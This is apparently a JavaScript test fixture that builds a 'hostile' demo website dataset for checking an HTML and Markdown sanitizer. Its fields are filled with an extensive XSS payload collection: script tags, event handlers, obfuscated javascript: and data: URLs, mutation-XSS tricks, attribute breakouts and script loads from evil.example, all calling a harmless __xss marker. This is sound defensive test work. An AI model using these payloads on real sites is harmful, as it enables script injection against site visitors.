// @ts-check
/**
 * The `hostile` site: the demo dataset with the same shape, but every
 * text a client might render carries XSS payloads: titles, excerpts,
 * contents, localized content, content trees (link marks, image src, odd
 * node types and attributes), links (ticket tiers' `externalLink`, a
 * variant's buy link, a LINK page's `linkUrl`, a location's `mapLink` and `externalLink`) and
 * image keys and URLs. Harmless formatting (<p>,
 * <strong>, <a href="https://...">) stays around the payloads so the
 * sanitizer's work is visible.
 *
 * Every payload that would run calls `__xss('<id>')`: a test can define
 * `window.__xss = (id) => hits.push(id)`, render the hostile site and
 * assert that nothing was called.
 */
import {buildDemoDataset} from './data.js';

/** @typedef {import('./data.js').Dataset} Dataset */
/** @typedef {import('./data.js').ContentNode} ContentNode */
/** @typedef {import('./media.js').Image} Image */

/** Name of the global function every hostile payload calls. */
export const XSS_MARKER = '__xss';

/** @param {string} id */
const x = (id) => `__xss('${id}')`;
/** @param {string} html */
const b64 = (html) => btoa(html);

/** HTML payloads, each a complete snippet. */
export const HOSTILE_HTML_PAYLOADS = [
  `<script>${x('script')}</script>`,
  `<SCRIPT SRC="https://evil.example/xss.js"></SCRIPT>`,
  `<scr<script>ipt>${x('nested-script')}</scr</script>ipt>`,
  `<img src=x onerror="${x('img-onerror')}">`,
  `<iMg sRc=x OnErRoR=${x('img-mixed-case')}>`,
  `<img src="x" onload="${x('img-onload')}" alt="onload">`,
  `<img srcset="javascript:${x('srcset')} 1x" alt="srcset">`,
  `<img src="javascript:${x('img-src-javascript')}" alt="javascript src">`,
  `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${x('img-src-data')}"/>`)}" alt="data src">`,
  `<a href="javascript:${x('href-javascript')}">javascript link</a>`,
  `<a href="JaVaScRiPt:${x('href-mixed-case')}">mixed-case link</a>`,
  `<a href=" &#x20;javascript:${x('href-leading-space')}">leading space</a>`,
  `<a href="jav&#x09;ascript:${x('href-tab-entity')}">tab entity</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${x('href-decimal-entities')}">decimal entities</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${x('href-hex-entities')}">hex entities</a>`,
  `<a href="javascript&colon;${x('href-colon-entity')}">colon entity</a>`,
  `<a href="vbscript:msgbox('href-vbscript')">vbscript link</a>`,
  `<a href="data:text/html;base64,${b64(`<script>${x('href-data')}</script>`)}">data link</a>`,
  `<a href="https://example.com/" onclick="${x('onclick')}" target="_blank">safe-looking link with onclick</a>`,
  `<p onmouseover="${x('onmouseover')}">hover me</p>`,
  `<iframe srcdoc="<script>${x('iframe-srcdoc')}</script>"></iframe>`,
  `<iframe src="javascript:${x('iframe-src')}"></iframe>`,
  `<iframe src="data:text/html,<script>${x('iframe-data')}</script>"></iframe>`,
  `<svg onload="${x('svg-onload')}"><script>${x('svg-script')}</script></svg>`,
  `<svg><a xlink:href="javascript:${x('svg-xlink')}"><text y="20">svg link</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${x('svg-animate')}"/><set attributeName="onmouseover" to="${x('svg-set')}"/></svg>`,
  `<math><mi xlink:href="javascript:${x('math-href')}">math link</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${x('math-mxss')}"></style></mglyph></table></mtext></math>`,
  `<form action="javascript:${x('form-action')}"><input type="submit" value="Submit"><button formaction="javascript:${x('formaction')}">Go</button></form>`,
  `<base href="javascript:${x('base')}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${x('meta-refresh')}">`,
  `<div style="background-image:url(javascript:${x('style-url')});width:expression(${x('style-expression')})">styled div</div>`,
  `<style>@import url("javascript:${x('style-import')}"); body{background:url("javascript:${x('style-background')}")}</style>`,
  `<object data="javascript:${x('object')}"></object>`,
  `<embed src="javascript:${x('embed')}">`,
  `<video><source onerror="${x('video-source')}"></video>`,
  `<audio src=x onerror=${x('audio')}></audio>`,
  `<details open ontoggle="${x('ontoggle')}"><summary>details</summary></details>`,
  `<input autofocus onfocus="${x('autofocus')}">`,
  `<marquee onstart="${x('marquee')}">marquee</marquee>`,
  `<body onload="${x('body-onload')}">`,
  `<noscript><p title="</noscript><img src=x onerror=${x('noscript')}>"></p></noscript>`,
  `<template><img src=x onerror="${x('template')}"></template>`,
  `<!--<img src="--><img src=x onerror="${x('comment')}">-->`,
  `<link rel="stylesheet" href="javascript:${x('link')}">`,
  `<x-widget onclick="${x('custom-element')}">custom element</x-widget>`,
  `<div data-html="&lt;img src=x onerror=${x('encoded-attribute')}&gt;">encoded in an attribute</div>`,
  `&lt;script&gt;${x('encoded-text')}&lt;/script&gt;`,
  `&lt;img src=x onerror=${x('encoded-img')}&gt;`,
  `{{constructor.constructor("${x('template-injection')}")()}}`,
];

/**
 * Markdown payloads, each a paragraph of its own: a record's `content` is
 * Markdown with inline HTML on the real service, and the kit renders it so.
 */
export const HOSTILE_MARKDOWN_PAYLOADS = [
  `[markdown link](javascript:${x('md-link')})`,
  `[markdown entity link](&#106;avascript:${x('md-entity-link')})`,
  `![markdown image](javascript:${x('md-image')})`,
  `<javascript:${x('md-autolink')}>`,
  `[markdown reference][evil]\n\n[evil]: javascript:${x('md-reference')}`,
  `**bold** <img src=x onerror="${x('md-inline-onerror')}"> *after*`,
  `<script>${x('md-script')}</script>`,
];

/** Short payloads for plain-text fields (titles, names, labels). */
export const HOSTILE_TEXT_PAYLOADS = [
  `<script>${x('title-script')}</script>`,
  `<img src=x onerror=${x('title-img')}>`,
  `"><svg onload=${x('title-svg')}>`,
  `</title><script>${x('title-close')}</script>`,
  `<a href="javascript:${x('title-link')}">click</a>`,
  `&lt;b onmouseover=${x('title-encoded')}&gt;`,
  `<iframe srcdoc="<script>${x('title-srcdoc')}</script>">`,
  `'-${x('title-quote')}-'`,
];

/**
 * URL payloads for URL fields. No whitespace, so they stay syntactically
 * URIs (`scheme:...`) and pass a `uri` format check: the danger is the scheme.
 */
export const HOSTILE_URLS = [
  `javascript:${x('url-javascript')}`,
  `JaVaScRiPt:${x('url-mixed-case')}`,
  `vbscript:msgbox('url-vbscript')`,
  `data:text/html;base64,${b64(`<script>${x('url-data')}</script>`)}`,
  `javascript://example.com/%0a${x('url-comment')}`,
  `https://tickets.example.com/ok"onmouseover="${x('url-attribute-breakout')}`,
  `https://tickets.example.com/safe-looking`,
];

/** Image URLs: mostly hostile, one in four still the real artwork. */
const HOSTILE_IMAGE_URLS = [
  `javascript:${x('image-url')}`,
  `data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${x('image-data-svg')}"><script>${x('image-data-svg-script')}</script></svg>`)}`,
  `https://images.example.com/x.svg"onerror="${x('image-attribute-breakout')}`,
  '', // keep the real URL
];

let counter = 0;
/** @template T @param {T[]} list @returns {T} */
const pick = (list) => list[counter++ % list.length];

/** @param {string} text */
const hostileText = (text) => `${text} ${pick(HOSTILE_TEXT_PAYLOADS)}`;

/** @param {string | undefined} html */
function hostileExcerpt(html) {
  return `<p>Harmless <strong>excerpt</strong> with a <a href="https://example.com/safe">safe link</a>.</p>${html ?? ''}${pick(HOSTILE_HTML_PAYLOADS)}<p>${pick(HOSTILE_HTML_PAYLOADS)} <em>still an excerpt</em></p>`;
}

/** @param {string | undefined} html */
function hostileContent(html) {
  return [
    '<p>Harmless <strong>formatting</strong>, <em>emphasis</em> and a <a href="https://example.com/safe">safe https link</a>; all of the following must be neutralised:</p>',
    html ?? '',
    '<ul>',
    ...HOSTILE_HTML_PAYLOADS.map((payload) => `<li>${payload}</li>`),
    '</ul>',
    '<p>The end: <a href="mailto:hello@example.com">mailto</a>, <a href="tel:+4930123">tel</a> and <a href="/relative/path">relative</a> links are fine.</p>',
    // After a blank line the HTML block ends and Markdown is read again.
    ...HOSTILE_MARKDOWN_PAYLOADS.map((payload) => `\n${payload}`),
  ].join('\n');
}

/**
 * @param {Image | undefined} image
 * @returns {Image | undefined}
 */
function hostileImage(image) {
  if (!image) return image;
  const url = pick(HOSTILE_IMAGE_URLS);
  return {
    ...image,
    url: url || image.url,
    title: hostileText(image.title),
    caption: `<img src=x onerror=${x('image-caption')}>${image.caption}`,
    credit: `<a href="javascript:${x('image-credit')}">${image.credit}</a>`,
    altText: `"><img src=x onerror=${x('image-alt')}>`,
  };
}

/** @param {string} name @returns {ContentNode} */
const text = (name) => ({type: 'text', text: name});
/**
 * @param {string} label
 * @param {Record<string, unknown>} attrs
 * @returns {ContentNode}
 */
const linked = (label, attrs) => ({type: 'text', text: label, marks: [{type: 'link', attrs}]});

/**
 * A content tree full of hostile nodes, marks and attributes.
 * @param {string} where
 * @returns {ContentNode[]}
 */
export function hostileContentNodes(where) {
  /** @type {ContentNode} */
  let deep = {type: 'paragraph', content: [text('bottom of a 40-level blockquote tower')]};
  for (let i = 0; i < 40; i++) deep = {type: 'blockquote', content: [deep]};
  const imageObject = {
    id: 'img_hostile',
    siteId: 'site_nordlicht_artists',
    uploaded: true,
    inline: true,
    url: `javascript:${x('pm-image-object')}`,
    mimeType: 'image/svg+xml',
    size: '1',
    width: 10,
    height: 10,
    duration: 0,
    metadata: {onload: x('pm-image-metadata')},
    title: `<script>${x('pm-image-title')}</script>`,
    caption: '',
    credit: '',
    altText: `"><img src=x onerror=${x('pm-image-alt')}>`,
  };
  return [
    {type: 'heading', attrs: {level: 2}, content: [text(`Hostile content tree (${where})`)]},
    {type: 'paragraph', content: [text('Harmless '), {type: 'text', text: 'bold', marks: [{type: 'bold'}]}, text(' and a '), linked('safe link', {href: 'https://example.com/safe', target: '_blank'}), text('.')]},
    {type: 'paragraph', content: [text(`<img src=x onerror=${x('pm-text')}> and <script>${x('pm-text-script')}</script> must show as text`)]},
    {
      type: 'paragraph',
      content: [
        linked('javascript', {href: `javascript:${x('pm-link')}`}),
        text(' · '),
        linked('mixed case', {href: `JaVaScRiPt:${x('pm-link-case')}`}),
        text(' · '),
        linked('leading space', {href: `  javascript:${x('pm-link-space')}`}),
        text(' · '),
        linked('entity', {href: `jav&#x09;ascript:${x('pm-link-entity')}`}),
        text(' · '),
        linked('data', {href: `data:text/html;base64,${b64(`<script>${x('pm-link-data')}</script>`)}`}),
        text(' · '),
        linked('vbscript', {href: `vbscript:msgbox('pm-link-vbscript')`}),
        text(' · '),
        linked('onclick attribute', {href: 'https://example.com/', onclick: x('pm-link-onclick'), target: '_blank', rel: 'opener'}),
        text(' · '),
        linked('attribute breakout', {href: `https://example.com/" onmouseover="${x('pm-link-breakout')}`}),
        text(' · '),
        linked('title attribute', {href: 'https://example.com/', title: `"><img src=x onerror=${x('pm-link-title')}>`}),
      ],
    },
    {type: 'image', attrs: {src: `javascript:${x('pm-img-src')}`, alt: `"><img src=x onerror=${x('pm-img-alt')}>`, onerror: x('pm-img-onerror'), width: `100" onload="${x('pm-img-width')}`, height: 50}},
    {type: 'image', attrs: {src: `data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${x('pm-img-data')}"/>`)}`, alt: 'data: SVG image'}},
    {type: 'image', attrs: {image: imageObject}},
    {type: 'heading', attrs: {level: `2><script>${x('pm-heading-level')}</script`}, content: [text('Heading with a hostile level')]},
    {type: 'heading', attrs: {level: 9}, content: [text('Heading with level 9')]},
    {type: 'codeBlock', attrs: {language: `"><script>${x('pm-code-language')}</script>`}, content: [text(`<script>${x('pm-code-text')}</script>`)]},
    {type: 'html', attrs: {html: `<img src=x onerror=${x('pm-html-node')}>`}, content: [text('unknown "html" node')]},
    {type: 'script', attrs: {src: 'https://evil.example/xss.js'}, content: [text(x('pm-script-node'))]},
    {type: 'iframe', attrs: {src: `javascript:${x('pm-iframe')}`, srcdoc: `<script>${x('pm-iframe-srcdoc')}</script>`}},
    {type: 'paragraph', attrs: {style: `background:url(javascript:${x('pm-style')})`, class: `x" onclick="${x('pm-class')}`, onclick: x('pm-onclick')}, content: [text('paragraph with hostile attributes')]},
    {type: 'table', content: [{type: 'tableRow', content: [
      {type: 'tableHeader', attrs: {colspan: `2" onmouseover="${x('pm-colspan')}`}, content: [{type: 'paragraph', content: [text('<b>header</b>')]}]},
      {type: 'tableCell', attrs: {style: `background:url(javascript:${x('pm-cell-style')})`}, content: [{type: 'paragraph', content: [linked('cell link', {href: `javascript:${x('pm-cell-link')}`})]}]},
    ]}]},
    {type: 'blockquote', attrs: {cite: `javascript:${x('pm-cite')}`}, content: [{type: 'paragraph', content: [text('quoted')]}]},
    {type: 'paragraph', content: [
      {type: 'text', text: 'unknown mark', marks: [{type: 'script', attrs: {src: 'https://evil.example/xss.js'}}]},
      text(' · '),
      {type: 'text', text: 'styled', marks: [{type: 'textStyle', attrs: {color: `red;background:url(javascript:${x('pm-mark-style')})`}}]},
      {type: 'hardBreak', attrs: {onmouseover: x('pm-hardbreak')}},
      linked('data html', {href: `data:text/html,<script>${x('pm-data-html')}</script>`}),
    ]},
    {type: 'bulletList', content: [{type: 'listItem', content: [{type: 'paragraph', content: [linked('list link', {href: `javascript:${x('pm-list-link')}`})]}]}]},
    {type: 'orderedList', attrs: {start: `1" onclick="${x('pm-ol-start')}`}, content: [{type: 'listItem', content: [{type: 'paragraph', content: [text('item')]}]}]},
    {type: 'horizontalRule', attrs: {onclick: x('pm-hr')}},
    deep,
  ];
}

/**
 * @param {ContentNode | undefined} tree
 * @param {string} where
 * @returns {ContentNode}
 */
function hostileTree(tree, where) {
  return {type: 'doc', content: [...(tree?.content ?? []), ...hostileContentNodes(where)]};
}

/**
 * @param {any[] | undefined} entries
 * @param {string} where
 */
function hostileLocalized(entries, where) {
  if (!entries) return entries;
  return entries.map((e) => {
    const out = {...e};
    if (typeof e.title === 'string') out.title = hostileText(e.title);
    if (typeof e.excerpt === 'string') out.excerpt = hostileExcerpt(e.excerpt);
    if (typeof e.content === 'string') out.content = hostileContent(e.content);
    if (typeof e.shortContent === 'string') out.shortContent = hostileText(e.shortContent);
    if (typeof e.metaTitle === 'string') out.metaTitle = `</title><script>${x('meta-title')}</script>${e.metaTitle}`;
    if (e.contentJSON) out.contentJSON = hostileTree(e.contentJSON, `${where} ${e.locale}`);
    return out;
  });
}

/**
 * The hostile dataset (site key `hostile`).
 * @param {number} [now]
 * @returns {Dataset}
 */
export function buildHostileDataset(now = Date.now()) {
  counter = 0;
  const d = buildDemoDataset(now);

  /** Tag titles, once per tag, so that join rows and /tags agree. @type {Map<string, string>} */
  const tagTitles = new Map(d.tags.map((tag) => [tag.id, hostileText(tag.title)]));
  /** @param {any} info */
  const tagInfo = (info) => ({...info, title: tagTitles.get(info.id) ?? info.title, parentTags: info.parentTags?.map((/** @type {any} */ p) => ({...p, parentTag: {...p.parentTag, title: tagTitles.get(p.parentTag.id) ?? p.parentTag.title}}))});
  /** @param {any[] | undefined} rows */
  const tagRows = (rows) => rows?.map((r) => ({...r, tag: tagInfo(r.tag)}));
  /** @param {any} profile */
  const slimProfile = (profile) => ({...profile, image: hostileImage(profile.image), localizedContent: hostileLocalized(profile.localizedContent, profile.slug)});
  /** @param {any[] | undefined} list */
  const artists = (list) => list?.map((a) => ({profile: slimProfile(a.profile)}));
  /** @param {any} ref */
  const eventRef = (ref) => ({...ref, localizedContent: hostileLocalized(ref.localizedContent, ref.slug)});

  const events = d.events.map((e) => ({
    ...e,
    description: hostileText('Plain description'),
    image: hostileImage(e.image),
    tickets: e.tickets?.map((/** @type {any} */ t) => ({...t, name: hostileText(t.name), externalLink: pick(HOSTILE_URLS), currency: t.order === 2 ? `EUR"><script>${x('ticket-currency')}</script>` : t.currency})),
    location: e.location && {
      ...e.location,
      localizedContent: [{siteId: e.location.siteId, locale: 'en', title: `${e.location.localizedContent[0].title} <img src=x onerror=${x('location-name')}>`}],
      city: hostileText(e.location.city ?? ''),
      address: `<b onmouseover=${x('location-address')}>${e.location.address ?? ''}</b>`,
      mapLink: pick(HOSTILE_URLS),
      externalLink: pick(HOSTILE_URLS),
    },
    artists: artists(e.artists),
    relations: e.relations && {parents: e.relations.parents?.map(eventRef), children: e.relations.children?.map(eventRef)},
    tags: tagRows(e.tags),
    // The service's own JSON-LD, trying to break out of its <script>.
    jsonLd: {'@context': 'https://schema.org', '@type': 'Event', name: `</script><script>${x('jsonld-breakout')}</script>`, description: `<!--<script>${x('jsonld-comment')}`, url: `javascript:${x('jsonld-url')}`},
    localizedContent: hostileLocalized(e.localizedContent, e.slug),
  }));
  // One more event whose slug itself is an attack on href templates.
  const first = events.find((e) => Date.parse(e.startDate) > now) ?? events[0];
  events.push({...first, id: `${first.id}-slug`, slug: `"><img src=x onerror=${x('slug')}>`, localizedContent: [{siteId: first.siteId, locale: 'en', title: `Event with a hostile slug <script>${x('slug-title')}</script>`}]});

  /** @param {any} pg */
  const page = (pg) => ({
    ...pg,
    image: hostileImage(pg.image),
    linkUrl: pg.type === 'LINK' ? pick(HOSTILE_URLS) : pg.linkUrl,
    date: pg.date,
    tags: tagRows(pg.tags),
    artists: artists(pg.artists),
    localizedContent: hostileLocalized(pg.localizedContent, pg.slug)?.map((/** @type {any} */ e) => (e.contentJSON || pg.type === 'NEWS' ? e : {...e, contentJSON: hostileTree(undefined, `${pg.slug} ${e.locale}`)})),
  });
  const news = d.news.map(page);
  const pages = d.pages.map(page);

  const profiles = d.profiles.map((pr) => ({...slimProfile(pr), tags: tagRows(pr.tags)}));

  const products = d.products.map((pr) => ({
    ...pr,
    author: `<b onmouseover="${x('author')}">${pr.author ?? ''}</b>`,
    image: hostileImage(pr.image),
    artists: artists(pr.artists),
    variants: pr.variants?.map((/** @type {any} */ v) => ({...v, externalLink: pick(HOSTILE_URLS), image: hostileImage(v.image), productType: v.productType && {...v.productType, type: hostileText(v.productType.type)}})),
    tags: tagRows(pr.tags),
    localizedContent: hostileLocalized(pr.localizedContent, pr.slug),
  }));

  const tags = d.tags.map(tagInfo);

  const site = structuredClone(d.site);
  site.id = 'site_hostile';
  site.name = `Hostile <img src=x onerror=${x('site-name')}> Demo`;
  site.description = `<script>${x('site-description')}</script>A site whose content attacks the page. <a href="javascript:${x('site-description-link')}">click</a> [md](javascript:${x('site-description-md')})`;
  site.image = {...hostileImage(site.image), url: `javascript:${x('logo')}`, altText: `"><svg onload=${x('logo-alt')}>`};
  site.settings.publicSite.baseUrl = `javascript:${x('base-url')}//`;
  site.settings.defaults.event.location = `<img src=x onerror=${x('default-location')}>`;
  for (const web of site.webSites) {
    web.image = hostileImage(web.image);
    web.customDomain = `evil.example"><script>${x('custom-domain')}</script>`;
    web.localizedContent = hostileLocalized(web.localizedContent, 'website');
  }

  return {...d, site, events, news, pages, profiles, products, tags};
}
